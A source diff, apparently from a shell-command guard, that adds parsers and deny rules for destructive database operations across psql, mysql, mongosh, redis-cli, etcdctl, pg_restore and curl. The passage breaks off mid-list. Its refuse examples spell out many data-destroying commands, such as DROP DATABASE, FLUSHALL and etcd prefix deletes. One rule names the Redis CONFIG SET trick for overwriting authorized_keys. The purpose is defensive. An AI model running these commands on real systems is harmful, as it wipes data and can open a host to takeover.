@@ -1,90 +1,153 @@
-// Databases: statements that destroy data, however they reach the client (psql -c, mysql -e,
-// sqlite3's arguments, a heredoc or herestring on its input), and the tools that drop a whole
-// database. Keywords inside string literals are data, not statements.
+// Databases and other data stores: statements and commands that destroy data, however they
+// reach the client (by option, as operands, from a file, on standard input: src/policy/clients.ts),
+// the tools that drop a whole database or restore over one, and the HTTP and etcd deletes that
+// empty a store. Keywords inside string literals are data, not statements. A file the client
+// would run that guard cannot read is refused (db.unreadable), as a script file is.
 import {type SimpleCommand, type Word, normalizeOptions} from '../../shell/index.js';
-import {dangerOf, type SqlDanger, statements} from '../sql.js';
+import {type ClientInput, type Code, clientInput, clientPrograms} from '../clients.js';
+import {dangerOf, readSql, type SqlDanger} from '../sql.js';
 import {spelled, written} from '../spelling.js';
-import type {BuiltinRule, Hit} from '../types.js';
-
-const clients = ['psql', 'mysql', 'mariadb', 'sqlite3', 'mongosh', 'mongo'];
-
-/** The SQL a client runs: its -c / -e / --command / --execute values, sqlite3's arguments, or its input. */
-function sqlOf(command: SimpleCommand): Word[] {
-  const name = command.program.value!;
-  const args = command.argv.slice(1);
-  const stdin = command.redirects.filter((redirect) => redirect.op === '<<' || redirect.op === '<<-' || redirect.op === '<<<').map((redirect) => redirect.target);
-  if (name === 'sqlite3') {
-    const operands: Word[] = [];
-    const takesValue = new Set(['-cmd', '-separator', '-nullvalue', '-newline', '-mmap', '-pagecache', '-lookaside', '-maxsize', '-vfs', '-heap']);
-    for (let i = 0; i < args.length; i++) {
-      const text = args[i]!.value;
-      if (text === '-cmd') operands.push(args[i + 1]!);
-      if (text !== null && takesValue.has(text)) i++;
-      else if (text === null || !text.startsWith('-')) operands.push(args[i]!);
-    }
-
-    return [...operands.slice(1).filter(Boolean), ...stdin];
-  }
-
-  if (name === 'mongosh' || name === 'mongo') {
-    const {values} = normalizeOptions(args, {takesValue: ['--eval', '--host', '--port', '-u', '-p', '--username', '--password', '--file', '-f']});
-    return [values.get('--eval'), ...stdin].filter((word): word is Word => word !== undefined);
-  }
-
-  const flag = name === 'psql' ? ['-c', '--command'] : ['-e', '--execute'];
-  const takesValue = name === 'psql' ? ['-c', '--command', '-d', '--dbname', '-h', '--host', '-p', '--port', '-U', '--username', '-f', '--file', '-v', '--set', '--variable', '-o', '--output', '-L', '--log-file', '-P', '--pset', '-F', '-R', '-T'] : ['-e', '--execute', '-h', '--host', '-P', '--port', '-u', '--user', '-D', '--database', '-S', '--socket'];
-  const found: Word[] = [];
-  for (let i = 0; i < args.length; i++) {
-    const word = args[i]!;
-    const text = word.value;
-    if (text === null) continue;
-    if (flag.includes(text)) found.push(args[++i]!);
-    else if (text.startsWith(`${flag[1]}=`)) found.push({...word, value: text.slice(flag[1]!.length + 1)});
-    else if (text.startsWith(flag[0]!) && text.length > 2 && !text.startsWith('--')) found.push({...word, value: text.slice(2)});
-    else if (takesValue.includes(text)) i++;
-  }
-
-  const reads = found.length === 0 && !args.some((word) => word.value === '-f' || word.value?.startsWith('--file'));
-  return [...found.filter(Boolean), ...(reads ? stdin : [])];
-}
-
-const mongoDanger: Array<[RegExp, SqlDanger]> = [
-  [/\.dropDatabase\s*\(|\.drop\s*\(\s*\)/, 'drop'],
-  [/\.(?:deleteMany|remove)\s*\(\s*\{\s*\}\s*\)/, 'delete-all'],
-];
+import type {BuiltinRule, EvaluationContext, Hit} from '../types.js';
 
 const explained: Record<SqlDanger, string> = {
   drop: 'deletes it and everything in it',
   truncate: 'deletes every row',
-  'delete-all': 'deletes every row: there is no WHERE',
-  'update-all': 'changes every row: there is no WHERE',
+  'delete-all': 'deletes every row: there is no WHERE that picks some',
+  'update-all': 'changes every row: there is no WHERE that picks some',
 };
 
-function sqlHit(command: SimpleCommand, wanted: SqlDanger): Hit | null {
-  for (const word of sqlOf(command)) {
-    if (!word.known) continue;
-    if (command.program.value === 'mongosh' || command.program.value === 'mongo') {
-      const found = mongoDanger.find(([pattern, danger]) => danger === wanted && pattern.test(word.value));
-      if (found) return {word: written(word), reason: `${command.program.value} runs ${found[0].exec(word.value)![0]}, which ${explained[wanted]}`};
+/** JavaScript with its strings and comments blanked, so `print('.drop()')` is no drop. */
+function jsCode(text: string): string {
+  return text.replace(/\/\/[^\n]*|\/\*[\s\S]*?\*\/|'(?:\\.|[^'\\\n])*'|"(?:\\.|[^"\\\n])*"|`(?:\\.|[^`\\])*`/g, (match) => (match.startsWith('/') ? ' ' : "''"));
+}
+
+const mongoDanger: Array<[RegExp, SqlDanger, 'code' | 'raw']> = [
+  [/\.dropDatabase\s*\(|\.drop\s*\(/, 'drop', 'code'],
+  [/\b(?:runCommand|adminCommand)\s*\(\s*\{\s*['"]?(?:dropDatabase|drop)['"]?\s*:/, 'drop', 'raw'],
+  [/\.(?:deleteMany|remove)\s*\(\s*(?:\{\s*\}\s*)?[,)]/, 'delete-all', 'code'],
+  [/\.updateMany\s*\(\s*\{\s*\}\s*,|\.update\s*\(\s*\{\s*\}\s*,[^;]*\bmulti\s*:\s*true/, 'update-all', 'code'],
+];
+
+const shorten = (text: string) => (text.length > 60 ? `${text.slice(0, 57)}...` : text);
+const from = (code: Code) => (code.file === undefined ? '' : ` (in ${code.word})`);
+
+/** The statements a piece of SQL runs, with what it runs from inside them (DO blocks, EXECUTE), a few levels down. */
+function statementsOf(code: Code, mysql: boolean): string[] {
+  const found: string[] = [];
+  let pending = code.sql ? [code.sql] : [];
+  for (let depth = 0; depth < 4 && pending.length > 0; depth++) {
+    found.push(...pending.flatMap((reading) => reading.statements));
+    pending = pending.flatMap((reading) => reading.nested.map((text) => readSql(text, {mysql})));
+  }
+
+  return found;
+}
+
+const dangers = new WeakMap<Code, Array<{statement: string; danger: SqlDanger}>>();
+
+/** The dangerous statements of a piece of SQL, found once for the four rules that each report one kind. */
+function dangersOf(code: Code, mysql: boolean): Array<{statement: string; danger: SqlDanger}> {
+  let found = dangers.get(code);
+  if (!found) {
+    found = statementsOf(code, mysql).flatMap((statement) => {
+      const danger = dangerOf(statement);
+      return danger ? [{statement, danger}] : [];
+    });
+    dangers.set(code, found);
+  }
+
+  return found;
+}
+
+function dataHit(command: SimpleCommand, context: EvaluationContext, wanted: SqlDanger): Hit | null {
+  const input = clientInput(command, context);
+  if (!input) return null;
+  const name = command.program.value!;
+  for (const code of input.code) {
+    if (input.language === 'js') {
+      const blanked = jsCode(code.text);
+      const found = mongoDanger.find(([pattern, danger, on]) => danger === wanted && pattern.test(on === 'code' ? blanked : code.text));
+      if (found) return {word: code.word, reason: `${name} runs ${found[0].exec(found[2] === 'code' ? blanked : code.text)![0].trim()}${from(code)}, which ${explained[wanted]}`};
       continue;
     }
 
-    const statement = statements(word.value).find((text) => dangerOf(text) === wanted);
-    if (statement) {
-      const shown = statement.length > 60 ? `${statement.slice(0, 57)}...` : statement;
-      return {word: written(word).trim(), reason: `${command.program.value} runs ${shown}, which ${explained[wanted]}`};
+    if (input.language === 'redis') continue;
+    const found = dangersOf(code, input.language === 'mysql').find(({danger}) => danger === wanted);
+    if (found) return {word: code.word, reason: `${name} runs ${shorten(found.statement)}${from(code)}, which ${explained[wanted]}`};
+  }
+
+  return null;
+}
+
+/** A Redis command line as redis-cli splits it: words, with quotes. */
+function redisWords(line: string): string[] {
+  return [...line.matchAll(/"((?:\\.|[^"\\])*)"|'([^']*)'|(\S+)/g)].map((match) => match[1] ?? match[2] ?? match[3]!);
+}
+
+// A Lua script's calls (`EVAL "redis.call('flushall')" 0`, `--eval wipe.lua`) are commands too.
+const luaCall = /\bredis\.p?call\s*\(\s*(['"])(\w+)\1((?:\s*,\s*(['"])[^'"]*\4)*)/g;
+
+function redisCommands(input: ClientInput): Array<{words: string[]; code: Code}> {
+  if (input.language !== 'redis') return [];
+  return input.code.flatMap((code) => [
+    ...code.text.split('\n').map((line) => ({words: redisWords(line), code})),
+    ...[...code.text.matchAll(luaCall)].map((call) => ({words: [call[2]!, ...[...call[3]!.matchAll(/(['"])([^'"]*)\1/g)].map((arg) => arg[2]!)], code})),
+  ]);
+}
+
+function redisFlush(command: SimpleCommand, context: EvaluationContext): Hit | null {
+  const input = clientInput(command, context);
+  const name = command.program.value!;
+  for (const {words, code} of input ? redisCommands(input) : []) {
+    const verb = words[0]?.toUpperCase();
+    if (verb === 'FLUSHALL' || verb === 'FLUSHDB') return {word: code.word, reason: `${name} ${verb} deletes every key${verb === 'FLUSHALL' ? ' of every database' : ' of the database'}`};
+    if ((verb === 'REPLICAOF' || verb === 'SLAVEOF') && words[1] && words[1].toUpperCase() !== 'NO') {
+      return {word: code.word, reason: `${name} ${verb} ${words.slice(1, 3).join(' ')} discards every key and copies those of ${words[1]} instead`};
     }
   }
 
   return null;
 }
 
+function redisFileWrite(command: SimpleCommand, context: EvaluationContext): Hit | null {
+  const input = clientInput(command, context);
+  const name = command.program.value!;
+  for (const {words, code} of input ? redisCommands(input) : []) {
+    if (words[0]?.toUpperCase() !== 'CONFIG' || words[1]?.toUpperCase() !== 'SET') continue;
+    const parameter = words.slice(2).find((word, i) => i % 2 === 0 && /^(?:dir|dbfilename|appendfilename|appenddirname|logfile)$/i.test(word));
+    if (parameter) return {word: code.word, reason: `${name} CONFIG SET ${parameter} makes the server write its files where it names, which is how Redis is made to overwrite authorized_keys or a crontab`};
+  }
+
+  return null;
+}
+
+function unreadable(command: SimpleCommand, context: EvaluationContext): Hit | null {
+  const unread = clientInput(command, context)?.unread[0];
+  return unread ? {word: unread.word, reason: `${unread.problem}: guard cannot vouch for what ${command.program.value} would run from a file it cannot read`} : null;
+}
+
 function dropTool(command: SimpleCommand): Hit | null {
   const args = command.argv.slice(1);
-  if (args.some((word) => word.value === '--help' || word.value === '--version' || word.value === '-?')) return null;
+  const help = command.program.value === 'pg_dropcluster' ? ['--help', '-h'] : ['--help', '--version', '-?', '-V'];
+  if (args.some((word) => word.known && help.includes(word.value))) return null;
   if (command.program.value === 'mysqladmin') {
     const drop = args.find((word) => word.known && /^drop$/i.test(word.value));
     return drop ? {word: written(drop), reason: `mysqladmin drop ${spelled(args[args.indexOf(drop) + 1] ?? drop)} deletes the database and everything in it`} : null;
+  }
+
+  if (command.program.value === 'influx') {
+    // InfluxDB 2's CLI; 1.x's `influx -execute 'DROP …'` is SQL, read with the clients.
+    const {operands} = normalizeOptions(args, {takesValue: ['-n', '--name', '-o', '--org', '--org-id', '-i', '--id', '--host', '-t', '--token', '-c', '--active-config', '-b', '--bucket', '--bucket-id', '--start', '--stop', '-p', '--predicate', '--configs-path']});
+    const [verb, sub] = operands;
+    if (verb?.value === 'bucket' && sub?.value === 'delete') return {word: written(sub), reason: 'influx bucket delete deletes the bucket and every point in it'};
+    if (verb?.value === 'delete') return {word: written(verb), reason: 'influx delete deletes every point of the bucket between --start and --stop that the predicate matches'};
+    return null;
+  }
+
+  if (command.program.value === 'pg_dropcluster') {
+    const {operands} = normalizeOptions(args, {});
+    const [version, cluster] = operands;
+    return {word: written(cluster ?? command.argv[0]!), reason: `pg_dropcluster ${[version, cluster].filter(Boolean).map((word) => spelled(word!)).join(' ')} deletes the cluster's data folder and every database in it`};
   }
 
   const {operands} = normalizeOptions(args, {takesValue: ['-h', '--host', '-p', '--port', '-U', '--username', '--maintenance-db']});
@@ -92,13 +155,78 @@ function dropTool(command: SimpleCommand): Hit | null {
   return {word: written(name ?? command.argv[0]!), reason: `dropdb ${name ? spelled(name) : ''} deletes the database and everything in it`.replace('  ', ' ')};
 }
 
-function redisFlush(command: SimpleCommand): Hit | null {
-  const {operands} = normalizeOptions(command.argv.slice(1), {takesValue: ['-h', '-p', '-a', '-n', '-u', '-s', '--user', '--pass', '-r', '-i', '-d', '--tls-cert', '--tls-key', '--cacert', '--sni']});
-  const flush = operands[0]?.known && /^flush(all|db)$/i.test(operands[0].value) ? operands[0] : undefined;
-  return flush ? {word: written(flush), reason: `redis-cli ${spelled(flush)} deletes every key${/all/i.test(flush.value!) ? ' of every database' : ''}`} : null;
+/** `pg_restore --clean` into a database (with `-f` or no `-d` it only writes SQL), `mongorestore --drop`. */
+function restoreOver(command: SimpleCommand): Hit | null {
+  const spec = {takesValue: ['-d', '--dbname', '-f', '--file', '-F', '--format', '-h', '--host', '-p', '--port', '-U', '--username', '-j', '--jobs', '-n', '--schema', '-t', '--table', '-L', '--use-list', '-S', '--superuser', '--role', '-I', '-P', '-T'], aliases: {'--clean': '-c', '--dbname': '-d', '--list': '-l', '--file': '-f'}};
+  const {flags} = normalizeOptions(command.argv.slice(1), spec);
+  if (flags.has('--help')) return null;
+  if (command.program.value === 'mongorestore') return flags.has('--drop') ? {word: '--drop', reason: 'mongorestore --drop drops each collection before restoring it: what was written since the dump is gone'} : null;
+  if (!flags.has('-c') || !flags.has('-d') || flags.has('-l') || flags.has('-f')) return null;
+  const clean = command.argv.find((word) => word.known && (word.value === '--clean' || /^-[a-zA-Z]*c/.test(word.value)))!;
+  return {word: written(clean), reason: `pg_restore ${spelled(clean)} drops each object of the dump in the database before restoring it: what was written since the dump is gone`};
 }
 
-const heredoc = (sql: string) => `<<'SQL'\n${sql}\nSQL`;
+const etcdSpec = {takesValue: ['--endpoints', '--cacert', '--cert', '--key', '--user', '--password', '--dial-timeout', '--command-timeout', '-w', '--write-out', '--discovery-srv', '--discovery-srv-name', '--keepalive-time', '--keepalive-timeout']};
+
+/** `etcdctl del "" --prefix`, `--from-key`: every key, and with it every object of a Kubernetes cluster. */
+function etcdDeleteAll(command: SimpleCommand): Hit | null {
+  const {flags, operands, values} = normalizeOptions(command.argv.slice(1), etcdSpec);
+  if (operands[0]?.value !== 'del' || flags.has('--help') || flags.has('-h')) return null;
+  const key = operands[1];
+  const off = (flag: string) => values.get(flag)?.value === 'false';
+  const fromKey = flags.has('--from-key') && !off('--from-key');
+  const prefix = flags.has('--prefix') && !off('--prefix') && key?.known && /^\/?(?:registry\/?)?$/.test(key.value);
+  if (!fromKey && !prefix) return null;
+  const how = fromKey ? '--from-key' : '--prefix';
+  return {word: how, reason: `etcdctl del ${key ? spelled(key) : "''"} ${how} deletes every key${fromKey ? ' from that one on' : ' under it'}; on a Kubernetes control plane, every object of the cluster`};
+}
+
+const curlSpec = {
+  takesValue: [
+    '-X', '--request', '-H', '--header', '-d', '--data', '--data-raw', '--data-binary', '--data-urlencode', '--json', '-u', '--user', '-o', '--output', '-A', '--user-agent', '-e', '--referer', '-b', '--cookie',
+    '-c', '--cookie-jar', '-F', '--form', '-T', '--upload-file', '-w', '--write-out', '-x', '--proxy', '-m', '--max-time', '--connect-timeout', '--retry', '-K', '--config', '--cacert', '--cert', '--key',
+    '-E', '--url', '--resolve', '--retry-delay', '--retry-max-time', '-r', '--range', '-Y', '-y', '-z', '--oauth2-bearer', '--aws-sigv4',
+  ],
+};
+
+/**
+ * A URL naming a whole index or database: one path segment on Elasticsearch's or OpenSearch's
+ * port (9200, 9243) or CouchDB's (5984), or `_all` or a wildcard index anywhere. A document
+ * (`/logs/_doc/1`) is a deeper path.
+ */
+function storeUrl(url: string): boolean {
+  const parsed = /^(?:https?:\/\/)?(?:[^@/\s]*@)?([^/\s?]*)(\/[^?#\s]*)?/.exec(url);
+  const segments = (parsed?.[2] ?? '').split('/').filter(Boolean);
+  if (segments.length !== 1) return false;
+  return /:(?:9200|9243|5984)$/.test(parsed![1]!) || segments[0] === '_all' || segments[0]!.includes('*');
+}
+
+/** `curl -X DELETE es:9200/logs-*` (or `_all`), `http DELETE couch:5984/app`; `_delete_by_query` of every document. */
+function httpDelete(command: SimpleCommand): Hit | null {
+  const args = command.argv.slice(1);
+  let method: string | undefined;
+  let urls: Word[];
+  let body = '';
+  if (command.program.value === 'http' || command.program.value === 'https') {
+    const {operands} = normalizeOptions(args, {takesValue: ['-a', '--auth', '-A', '--auth-type', '--session', '-o', '--output', '--verify', '--cert', '--cert-key', '--timeout', '--proxy']});
+    const first = operands[0]?.value;
+    method = first && /^[A-Z]+$/.test(first) ? first : undefined;
+    urls = method ? operands.slice(1, 2) : operands.slice(0, 1);
+    body = operands.slice(2).map((word) => word.value ?? '').join(' ');
+  } else {
+    const {operands, values} = normalizeOptions(args, curlSpec);
+    method = (values.get('-X') ?? values.get('--request'))?.value?.toUpperCase();
+    urls = [...operands, ...[values.get('--url')].filter((word): word is Word => word !== undefined)];
+    body = ['-d', '--data', '--data-raw', '--data-binary', '--json'].map((flag) => values.get(flag)?.value ?? '').join(' ');
+  }
+
+  const url = urls.find((word) => word.known && (method === 'DELETE' ? storeUrl(word.value) : /\/_delete_by_query\b/.test(word.value)));
+  if (!url) return null;
+  if (method === 'DELETE') return {word: written(url), reason: `${command.program.value} DELETE ${spelled(url)} deletes the index (or database) and every document in it`};
+  return /match_all/.test(body) ? {word: written(url), reason: `${command.program.value} ${spelled(url)} with match_all deletes every document of the index`} : null;
+}
+
+const heredoc = (sql: string, tag = 'SQL') => `<<'${tag}'\n${sql}\n${tag}`;
 
 const sqlRule = (id: string, wanted: SqlDanger, reason: string, alternative: string, examples: BuiltinRule['examples']): BuiltinRule => ({
   id,
@@ -106,46 +234,169 @@ const sqlRule = (id: string, wanted: SqlDanger, reason: string, alternative: str
   level: 'deny',
   reason,
   alternative,
-  match: {program: clients},
-  check: (command) => sqlHit(command, wanted),
+  match: {program: clientPrograms},
+  check: (command, context) => dataHit(command, context, wanted),
   examples,
 });
 
+const redisClients = ['redis-cli', 'valkey-cli', 'keydb-cli'];
+
 export const databases: BuiltinRule[] = [
-  sqlRule('db.drop', 'drop', 'drops a database, schema or table', 'take a backup, then drop it by hand in a reviewed session', {
-    refuse: ['psql -c "DROP DATABASE production"', "psql -c 'drop   table users'", `psql ${heredoc('DROP SCHEMA public CASCADE;')}`, 'psql --command="DROP TABLE x"', "mysql -u root -e 'DROP DATABASE shop'", "sqlite3 app.db 'DROP TABLE users'", "psql <<< 'select 1; drop table users'", "mongosh --eval 'db.dropDatabase()'", 'psql -c "/* tidy */ DROP\tTABLE\nlogs"', "sh -c \"psql -c 'DROP TABLE users'\""],
-    allow: ["psql -c \"SELECT 'DROP TABLE x' AS example\"", "rg -n 'DROP TABLE' migrations/", "grep -r 'DROP TABLE' .", "echo 'DROP TABLE users;' > ./examples/bad.sql", 'psql -c "SELECT count(*) FROM users"', `cat ${heredoc('DROP TABLE x;')} > notes.sql`, 'psql -c "SELECT \\$\\$DROP TABLE x\\$\\$"', "psql -c '-- DROP TABLE users\nSELECT 1'"],
+  sqlRule('db.drop', 'drop', 'drops a database, schema, table or collection', 'take a backup, then drop it by hand in a reviewed session', {
+    refuse: [
+      'psql -c "DROP DATABASE production"', "psql -c 'drop   table users'", `psql ${heredoc('DROP SCHEMA public CASCADE;')}`, 'psql --command="DROP TABLE x"', "mysql -u root -e 'DROP DATABASE shop'",
+      "sqlite3 app.db 'DROP TABLE users'", "psql <<< 'select 1; drop table users'", "mongosh --eval 'db.dropDatabase()'", 'psql -c "/* tidy */ DROP\tTABLE\nlogs"', "sh -c \"psql -c 'DROP TABLE users'\"",
+      'psql app < ./reset.sql', 'psql -f ./reset.sql app', 'psql --file=reset.sql', 'psql -v ON_ERROR_STOP=1 -1 -f reset.sql', 'cat reset.sql | psql', 'psql -f - < reset.sql', 'psql -f /dev/stdin < reset.sql', "psql -c '\\i reset.sql'", 'psql < include.sql',
+      'mysql shop < wipe.sql', "mysql -pS3cret shop -e 'DROP TABLE orders'", "mysql --execute='drop schema shop'", 'mariadb -e "DROP DATABASE IF EXISTS shop"', "mysql -e 'source wipe.sql'", "echo 'DROP TABLE orders;' | mysql shop",
+      'mysql shop < dump.sql', "mysql -e '# keep\nDROP TABLE t'", "sqlite3 db.sqlite3 < reset.sql", "sqlite3 app.db '.read reset.sql'", "sqlite3 -cmd 'DROP TABLE users' app.db", "echo 'DROP TABLE users;' | sqlite3 app.db",
+      "clickhouse-client -q 'DROP DATABASE analytics'", "clickhouse-client --query='DROP TABLE logs.events SYNC'", "echo 'DROP DATABASE analytics' | clickhouse-client", "clickhouse client --queries-file reset.sql", "clickhouse-client -n 'SELECT 1; DROP TABLE t'",
+      "cqlsh -e 'DROP KEYSPACE shop'", 'cqlsh -f reset.sql', "cqlsh db1 9042 <<< 'DROP TABLE shop.orders;'", "mongo shop --eval 'db.orders.drop()'", `mongosh app ${heredoc('db.getCollectionNames().forEach(c => db[c].drop())', 'JS')}`,
+      'mongosh --file ./wipe.js', 'mongosh app wipe.js', "mongosh --eval 'db.runCommand({dropDatabase: 1})'", "mongosh --eval \"db.getSiblingDB('app').dropDatabase()\"", "mongosh --eval \"load('wipe.js')\"",
+      "cockroach sql --url \"$DB\" -e 'DROP DATABASE bank CASCADE'", "sqlcmd -S db -Q 'DROP DATABASE shop'", 'sqlcmd -S db -i reset.sql', "duckdb warehouse.db 'DROP TABLE sales'", "bq query --use_legacy_sql=false 'DROP TABLE ds.sales'",
+      'psql -c "DO \\$\\$ BEGIN EXECUTE \'DROP TABLE \' || quote_ident(\'users\'); END \\$\\$"', "psql -c 'DROP TYPE mood CASCADE'", "psql -c 'ALTER TABLE users DROP COLUMN email'", "mysql -e 'ALTER TABLE users DROP email'",
+      "psql -c \"CREATE OR REPLACE TABLE t AS SELECT 1\"", 'T=$(cat name); psql -c "DROP TABLE $T"', "psql \"$URL\" -c 'DROP TABLE users' -c 'SELECT 1'", "trino --execute 'DROP TABLE hive.web.clicks'", "influx -execute 'DROP DATABASE metrics'",
+      "snowsql -q 'DROP DATABASE analytics'", "mysql -e '/*!40000 DROP DATABASE IF EXISTS shop*/'", "printf 'DROP TABLE x;' | psql", "psql --comm 'DROP TABLE x'", "mysql --exec='DROP TABLE x'",
+      'pv dump.sql | mysql shop', "printf 'BEGIN;\\nDROP TABLE users;\\nCOMMIT;\\n' | psql", "printf '%s\\n' 'DROP TABLE users' | psql", "echo -e 'SELECT 1;\\nDROP TABLE t;' | mysql", 'cat reset.sql | pv | psql', `sqlcmd -S db ${heredoc('SELECT 1\nGO\nDROP TABLE dbo.Orders\nGO')}`, `mysql shop ${heredoc('DELIMITER //\nSELECT 1 //\nDROP TABLE orders //\nDELIMITER ;')}`, 'cat wipe.sql | tee -a restore.log | mysql shop', "mongosh --eval 'db.adminCommand({dropDatabase: 1})'",
+    ],
+    allow: [
+      "psql -c \"SELECT 'DROP TABLE x' AS example\"", "rg -n 'DROP TABLE' migrations/", "grep -r 'DROP TABLE' .", "echo 'DROP TABLE users;' > ./examples/bad.sql", 'psql -c "SELECT count(*) FROM users"', `cat ${heredoc('DROP TABLE x;')} > notes.sql`,
+      'psql -c "SELECT \\$\\$DROP TABLE x\\$\\$"', "psql -c '-- DROP TABLE users\nSELECT 1'", 'psql -f report.sql', 'psql app < report.sql', 'cat report.sql | psql', "psql -c 'DROP INDEX idx_users_email'", "psql -c 'DROP VIEW report'",
+      "mysql -e 'DROP TEMPORARY TABLE scratch'", "psql -c 'ALTER TABLE users DROP CONSTRAINT users_email_key'", "psql -c 'ALTER TABLE users ALTER COLUMN email DROP NOT NULL'", 'psql --help', 'mysqldump shop > dump.sql', 'pg_dump -Fc app > app.dump',
+      "mongosh --eval 'db.users.dropIndex(\"email_1\")'", "mongosh --eval 'print(\"db.users.drop() is not run\")'", "sqlite3 app.db '.tables'", "clickhouse-client -q 'SELECT count() FROM events'", "cqlsh -e 'DESCRIBE KEYSPACES'",
+      "psql -c 'CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE t $$ LANGUAGE sql'", "psql -c 'SELECT 1' < reset.sql", "psql -c \"$QUERY\"", 'psql -f "$MIGRATION"', "mysql -e 'SELECT 1' shop < wipe.sql", "psql -c 'DROP TABLE x' --help",
+    ],
   }),
   sqlRule('db.truncate', 'truncate', 'empties a table', 'DELETE with a WHERE, after a backup', {
-    refuse: ["psql \"$DATABASE_URL\" -c 'TRUNCATE orders'", "mysql -e 'truncate table sessions'", `mysql ${heredoc('TRUNCATE logs;')}`],
-    allow: ["psql -c \"SELECT 'TRUNCATE' AS word\"", 'psql -c "SELECT 1"'],
+    refuse: [
+      "psql \"$DATABASE_URL\" -c 'TRUNCATE orders'", "mysql -e 'truncate table sessions'", `mysql ${heredoc('TRUNCATE logs;')}`, "clickhouse-client -q 'TRUNCATE TABLE logs.events'", "cqlsh -e 'TRUNCATE shop.orders;'",
+      "psql -c 'TRUNCATE TABLE a, b RESTART IDENTITY CASCADE'", "mysql -e 'ALTER TABLE logs TRUNCATE PARTITION p2020'", "bq query 'INSERT OVERWRITE TABLE ds.t SELECT * FROM ds.empty'", "sqlcmd -Q 'TRUNCATE TABLE dbo.Orders'",
+    ],
+    allow: ["psql -c \"SELECT 'TRUNCATE' AS word\"", 'psql -c "SELECT 1"', "psql -c 'SELECT truncated FROM jobs'"],
   }),
-  sqlRule('db.delete-all', 'delete-all', 'deletes every row of a table (DELETE without WHERE)', 'add a WHERE clause', {
-    refuse: ['mysql -e "DELETE FROM customers"', "mysql -u root -e 'delete from sessions;'", 'psql -c "delete from \\"Users\\""', "mongosh --eval 'db.users.deleteMany({})'", 'mysql -e"DELETE FROM t"'],
-    allow: ['mysql -e "DELETE FROM sessions WHERE expires_at < NOW()"', "psql -c \"INSERT INTO notes VALUES ('DELETE FROM x')\"", "mongosh --eval 'db.users.deleteMany({old: true})'"],
+  sqlRule('db.delete-all', 'delete-all', 'deletes every row of a table (DELETE without a WHERE that picks rows), or every document of a collection', 'add a WHERE clause (a filter) that picks the rows', {
+    refuse: [
+      'mysql -e "DELETE FROM customers"', "mysql -u root -e 'delete from sessions;'", 'psql -c "delete from \\"Users\\""', "mongosh --eval 'db.users.deleteMany({})'", 'mysql -e"DELETE FROM t"', "echo 'DELETE FROM notes;' | sqlite3 notes.db",
+      "psql -c 'DELETE FROM users WHERE 1=1'", "psql -c 'DELETE FROM users WHERE true RETURNING id'", "psql -c 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone'", "mongosh --eval 'db.users.deleteMany({ })'",
+      "mongo app --eval 'db.sessions.remove({})'", "clickhouse-client -q 'ALTER TABLE events DELETE WHERE 1'", "psql -c 'EXPLAIN ANALYZE DELETE FROM users'", "mysql -e \"DELETE FROM users WHERE 'a' = 'a'\"",
+    ],
+    allow: [
+      'mysql -e "DELETE FROM sessions WHERE expires_at < NOW()"', "psql -c \"INSERT INTO notes VALUES ('DELETE FROM x')\"", `psql app ${heredoc('COPY notes (verb, obj) FROM stdin;\ndelete\tfrom everything;\n\\.\nSELECT 1;')}`, "mongosh --eval 'db.users.deleteMany({old: true})'", "psql -c 'EXPLAIN DELETE FROM users'",
+      "psql -c 'DELETE FROM users WHERE id = 1'", "psql -c 'DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)'", "mongosh --eval 'db.users.deleteOne({})'", "clickhouse-client -q \"ALTER TABLE events DELETE WHERE day < '2020-01-01'\"",
+    ],
   }),
-  sqlRule('db.update-all', 'update-all', 'changes every row of a table (UPDATE without WHERE)', 'add a WHERE clause', {
-    refuse: ["psql -c 'UPDATE users SET admin = true'", "mysql -e 'update accounts set balance=0;'"],
-    allow: ["psql -c 'UPDATE users SET admin = false WHERE id = 7'", "psql -c \"SELECT 'UPDATE t SET x=1'\""],
+  sqlRule('db.update-all', 'update-all', 'changes every row of a table (UPDATE without a WHERE that picks rows), or every document of a collection', 'add a WHERE clause (a filter) that picks the rows', {
+    refuse: [
+      "psql -c 'UPDATE users SET admin = true'", "mysql -e 'update accounts set balance=0;'", "psql -c 'UPDATE users SET x = (SELECT y FROM z WHERE z.id = 1)'", "mongosh --eval 'db.users.updateMany({}, {$set: {admin: true}})'",
+      "psql -c 'UPDATE users SET admin = true WHERE 1 = 1'",
+    ],
+    allow: ["psql -c 'UPDATE users SET admin = false WHERE id = 7'", "psql -c \"SELECT 'UPDATE t SET x=1'\"", "mongosh --eval 'db.users.updateMany({active: false}, {$set: {archived: true}})'"],
   }),
+  {
+    id: 'db.unreadable',
+    pack: 'databases',
+    level: 'deny',
+    lowerable: 'machine',
+    reason: 'feeds a database client a file guard cannot read (missing, unreadable, over 1 MiB, not a regular file), so what it would run cannot be checked',
+    alternative: 'keep the file readable and under 1 MiB where the check runs; or the system or user policy may lower db.unreadable',
+    match: {program: clientPrograms},
+    check: unreadable,
+    examples: {
+      refuse: [
+        'psql -f missing.sql', 'mysql shop < missing.sql', 'sqlite3 app.db < /nonexistent/wipe.sql', 'mongosh --file missing.js', 'cqlsh -f missing.cql', 'cat missing.sql | psql', "psql -c '\\i missing.sql'", 'cd "$(mktemp -d)" && psql -f reset.sql',
+        "ssh db1 'psql -f /opt/migrations/down.sql'", 'psql -f k8s',
+      ],
+      allow: ['psql -f report.sql', 'cat missing.sql', 'psql -c "SELECT 1" < missing.sql', 'psql -f "$SQL_FILE"', 'psql -f "$1"', 'for f in migrations/*.sql; do psql -f "$f"; done', 'psql app < /dev/null', 'mysql -e "SELECT 1"', "ssh db1 'psql -c \"SELECT 1\"'"],
+    },
+  },
   {
     id: 'db.dropdb',
     pack: 'databases',
     level: 'deny',
-    reason: 'deletes a whole database',
-    alternative: 'take a backup (pg_dump), then drop it by hand',
-    match: {program: ['dropdb', 'mysqladmin']},
+    reason: 'deletes a whole database (a cluster of them, an InfluxDB bucket or its points)',
+    alternative: 'take a backup (pg_dump, mysqldump), then drop it by hand',
+    match: {program: ['dropdb', 'mysqladmin', 'pg_dropcluster', 'influx']},
     check: dropTool,
-    examples: {refuse: ['dropdb production', 'dropdb -h db1 -U admin production', 'mysqladmin -u root drop shop'], allow: ['dropdb --help', 'mysqladmin status', 'createdb scratch']},
+    examples: {
+      refuse: [
